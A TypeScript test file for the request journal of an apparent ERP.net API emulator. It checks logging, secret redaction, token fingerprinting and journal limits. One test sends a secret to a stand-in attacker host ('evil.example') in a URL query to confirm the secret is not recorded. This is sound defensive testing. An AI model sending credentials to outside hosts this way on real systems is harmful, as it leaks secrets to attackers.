import { createHash } from "node:crypto"
import { inspect } from "node:util"
import { HttpClientRequest } from "@effect/platform"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Redacted, TestClock } from "effect"
import { ErpNetEmulator } from "effect-erpnet/testing"
import { callApi, customers, demo, getApi, issueToken, layer, postToken, send } from "./support.ts"

const journal = Effect.flatMap(ErpNetEmulator.ErpNetEmulator, (erp) => erp.journal)

const digest = (token: string): string => createHash("sha256").update(token).digest("hex").slice(0, 8)

describe("journal", () => {
  it.effect("writes down what came and what was answered", () =>
    Effect.gen(function* () {
      yield* TestClock.setTime(5_000)
      yield* send(
        HttpClientRequest.post(`${customers}?$top=1&x=%20`).pipe(
          HttpClientRequest.bodyUnsafeJson({ Number: "ü" }),
          HttpClientRequest.setHeader("x-test", "1")
        )
      )
      assert.deepStrictEqual(
        (yield* journal).map(({ headers, ...entry }) => ({ ...entry, test: headers["x-test"] })),
        [
          {
            at: 5_000,
            method: "POST",
            url: `https://testdb.my.erp.net${customers}?$top=1&x=%20`,
            path: customers,
            query: "$top=1&x=%20",
            body: '{"Number":"ü"}',
            status: 401,
            aborted: false,
            test: "1"
          }
        ]
      )
    }).pipe(Effect.provide(layer()))
  )

  it.effect("shows the fields of a token request without the secret, and tokens as fingerprints", () =>
    Effect.gen(function* () {
      const token = yield* issueToken({ ...demo, scope: "read" })
      yield* callApi(token)
      yield* getApi({ "x-api-key": "enrt_ABC" })
      const [request, call, key] = yield* journal
      assert.deepStrictEqual(request?.body, {
        grant_type: "client_credentials",
        client_id: demo.client_id,
        client_secret: "<redacted>",
        scope: "read"
      })
      assert.strictEqual(call?.headers["authorization"], `Bearer ${digest(token)}`)
      assert.strictEqual(key?.headers["x-api-key"], digest("enrt_ABC"))
    }).pipe(Effect.provide(layer()))
  )

  it.effect("holds no secret, however it was sent", () =>
    Effect.gen(function* () {
      const erp = yield* ErpNetEmulator.ErpNetEmulator
      const secret = "5ecret-Th4t-must-not-show"
      const token = yield* issueToken()
      const reference = Redacted.value(yield* erp.issueReferenceToken({ clientId: demo.client_id }))
      const basic = Buffer.from(`${demo.client_id}:${secret}`).toString("base64")
      yield* postToken({ ...demo, client_secret: secret })
      yield* postToken({ ...demo, clientsecret: secret, password: secret, [secret]: "x" })
      yield* postToken({}, { authorization: `Basic ${basic}` })
      yield* postToken({}, { authorization: `Digest ${secret}`, "proxy-authorization": secret })
      yield* send(
        HttpClientRequest.post("/id/connect/token").pipe(HttpClientRequest.bodyUnsafeJson({ client_secret: secret }))
      )
      yield* postToken(JSON.stringify({ client_secret: secret }))
      yield* send(HttpClientRequest.get(`/id/connect/token?client_secret=${secret}`))
      yield* send(HttpClientRequest.get(`/tools/sha256?secret=${secret}`))
      yield* callApi(token)
      yield* getApi({ authorization: `bearer  ${token}`, cookie: `session=${secret}` })
      yield* getApi({ authorization: token })
      yield* getApi({ "api-key": reference })
      yield* send(
        HttpClientRequest.post("/api/domain/odata/$batch").pipe(
          HttpClientRequest.bodyText(`--b\r\nAuthorization: Bearer ${token}\r\n\r\n`, "multipart/mixed; boundary=b")
        )
      )
      yield* Effect.ignore(send(HttpClientRequest.get(`https://${"evil"}.example/?token=${secret}`)))
      const entries = yield* journal
      assert.lengthOf(entries, 15)
      for (const print of [JSON.stringify(entries), inspect(entries, { depth: 9 })]) {
        for (const hidden of [secret, basic, token, reference, demo.client_secret]) {
          assert.notInclude(print, hidden)
        }
      }
    }).pipe(Effect.provide(layer()))
  )

  it.effect("keeps the newest entries", () =>
    Effect.gen(function* () {
      const erp = yield* ErpNetEmulator.ErpNetEmulator
      for (let i = 0; i < 25; i++) yield* getApi({}, `/${i}`)
      assert.deepStrictEqual(
        (yield* journal).map((entry) => entry.path),
        ["/22", "/23", "/24"]
      )
      yield* erp.clearJournal
      assert.deepStrictEqual(yield* journal, [])
    }).pipe(Effect.provide(layer({ journalLimit: 3 })))
  )

  it.effect("handed out stays as it was", () =>
    Effect.gen(function* () {
      yield* getApi({}, "/one")
      const before = yield* journal
      yield* getApi({}, "/two")
      assert.lengthOf(before, 1)
      assert.lengthOf(yield* journal, 2)
    }).pipe(Effect.provide(layer()))
  )

  it.effect("shows requests for other hosts, which fail like an unknown host", () =>
    Effect.gen(function* () {
      for (const url of [
        "https://evil.example/x",
        "http://testdb.my.erp.net/tools/ver",
        "https://testdb.my.erp.net:8443/"
      ]) {
        const error = yield* Effect.flip(send(HttpClientRequest.get(url)))
        assert.strictEqual(Object(error)._tag, "RequestError")
        const entry = (yield* journal).at(-1)
        assert.strictEqual(entry?.url, url)
        assert.isUndefined(entry?.status)
      }
    }).pipe(Effect.provide(layer()))
  )
})
